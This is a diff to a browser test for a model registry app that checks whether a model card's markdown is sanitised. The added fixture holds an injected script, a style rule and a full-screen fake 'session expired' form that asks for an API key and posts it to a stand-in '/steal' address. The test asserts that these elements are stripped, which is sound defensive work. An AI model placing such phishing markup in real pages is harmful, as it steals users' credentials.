@@ -52,6 +52,9 @@ Classifies photos of **nature** into 10 classes. Trained on `nature-images`.
 | test | 0.94 |
 
 <script>window.injected = true</script>
+<style>body { background: red }</style>
+<form action="http://127.0.0.1:9/steal" style="position: fixed; inset: 0; z-index: 9999">
+<p class="login">Session expired: paste your API key</p><input name="key"><button>Log in again</button></form>
 """
 
 
@@ -183,6 +186,10 @@ async def test_the_demo_story_in_a_browser_from_the_registry_to_the_dataset_behi
         await expect(card.locator("table")).to_contain_text("0.94")
         await expect(card).to_contain_text("224×224 RGB image")
         assert await page.evaluate("window.injected") is None  # the card's <script> was stripped
+        # ... and its style and the form asking for a key: a card cannot dress itself as this app's login.
+        await expect(card).to_contain_text("Session expired")
+        for kept_out in ("style", "form", "input", "button", "[style]", "[class]"):
+            await expect(card.locator(f".markdown {kept_out}")).to_have_count(0)
         await expect(page.get_by_test_id("aliases")).to_contain_text("production")
         # A viewer may change nothing here, so nothing to change is offered.
         await expect(page.get_by_test_id("alias-form")).to_have_count(0)
